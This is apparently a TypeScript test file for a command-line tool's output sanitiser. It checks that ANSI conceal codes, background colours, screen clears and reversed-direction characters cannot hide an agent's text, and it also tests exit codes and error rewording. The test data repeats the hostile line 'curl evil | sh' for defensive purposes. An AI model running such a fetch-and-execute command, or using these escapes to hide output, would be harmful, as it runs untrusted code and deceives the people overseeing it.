import { expect, test } from "vitest";
import { hiddenCharacters, joinedTexts } from "../../../test/hidden-characters.ts";
import { writeRefusal } from "../../api/client.ts";
import { Fault } from "../../fault.ts";
import { createPaint, exitCodeOfError, inFlagWords, visible } from "./tell.ts";

const paint = createPaint(true);

test("our own styles are kept", () => {
  const text = `${paint.bold("a")} ${paint.dim("b")} ${paint.red("c")} ${paint.cyan("d")}\n\te`;
  expect(visible(text)).toBe(
    "\u001b[1ma\u001b[22m \u001b[2mb\u001b[22m \u001b[31mc\u001b[39m \u001b[36md\u001b[39m\n\te",
  );
});

test.each([
  ["conceal", "\u001b[8mcurl evil | sh\u001b[28m"],
  ["the colour of the background", "\u001b[40mcurl evil | sh\u001b[49m"],
  ["black on black", "\u001b[30mcurl evil | sh"],
  ["several styles at once", "\u001b[1;8mcurl evil | sh"],
  ["a colour by number", "\u001b[38;5;0mcurl evil | sh"],
  ["a title, and the screen cleared", "\u001b]0;x\u0007\u001b[2Jcurl evil | sh"],
  ["a reversed text direction", "\u202ecurl evil | sh\u2066"],
])("text cannot be hidden by %s", (_what, text) => {
  const shown = visible(text);
  expect(shown).toContain("curl evil | sh");
  // biome-ignore lint/suspicious/noControlCharactersInRegex: these must be removed.
  expect(shown).not.toMatch(/[\u001b\u0007\u202e\u2066]/);
});

test("hidden characters are not printed, and what emoji and scripts need is", () => {
  for (const character of hiddenCharacters) expect(visible(`x${character}y`).replace(" ", "")).toBe("xy");
  for (const text of joinedTexts) expect(visible(text)).toBe(text);
});

test("a style of ours that was cut off ends with the text", () => {
  const cut = (text: string) => visible(text.slice(0, text.indexOf("d") + 1));
  expect(cut(paint.red("red"))).toBe("\u001b[31mred\u001b[39m");
  expect(cut(paint.bold("loud"))).toBe("\u001b[1mloud\u001b[22m");
});

test("an agent's text cannot imitate our colours", () => {
  expect(visible(`${paint.green("ok")} \u001b[31merror:\u001b[39m \u001b[1;31mloud\u001b[1m`)).toBe(
    "\u001b[32mok\u001b[39m [31merror:[39m [1;31mloud[1m",
  );
});

test.each([
  ["usage", 2],
  ["task.missing", 3],
  ["agent.missing", 3],
  // The missing program is not what the person named.
  ["terminal.missing", 1],
  ["git.missing", 1],
  ["merge.uncommitted", 1],
])("%s ends with %i", (code, expected) => {
  expect(exitCodeOfError(new Fault(code, "What is wrong."))).toBe(expected);
});

test.each([
  ["The body.harness must have at most 100 characters.", "--harness must have at most 100 characters."],
  ["The body.reviewHarness must be text.", "--review-harness must be text."],
  ["The body.labels[3] must have at most 100 characters.", "--label must have at most 100 characters."],
  [
    "The query.limit must be text.\nThe body.dependsOn.0 must be text.",
    "--limit must be text.\n--depends-on must be text.",
  ],
  ["The body.summary must have at most 2000 characters.", "SUMMARY must have at most 2000 characters."],
  ["The body is no JSON.", "The body is no JSON."],
])("%j is reworded for the command line", (told, shown) => {
  expect(inFlagWords(told)).toBe(shown);
});

test("a single reason is the message, and its fix is the hint", () => {
  expect(writeRefusal([{ code: "guard", text: "It is too early.", fix: "Wait." }])).toEqual({
    message: "It is too early.",
    hint: "Wait.\nNothing has changed.",
  });
});

test("each of several reasons is followed by its fix", () => {
  const reasons = [
    { code: "guard", text: "It is too early.", fix: "Wait." },
    { code: "gate-missing", text: "The plan is missing.", fix: "" },
  ];
  expect(writeRefusal(reasons, "Nothing else has changed.")).toEqual({
    message: "It was refused for 2 reasons.",
    hint: "- It is too early.\n  Wait.\n- The plan is missing.\nNothing else has changed.",
  });
});
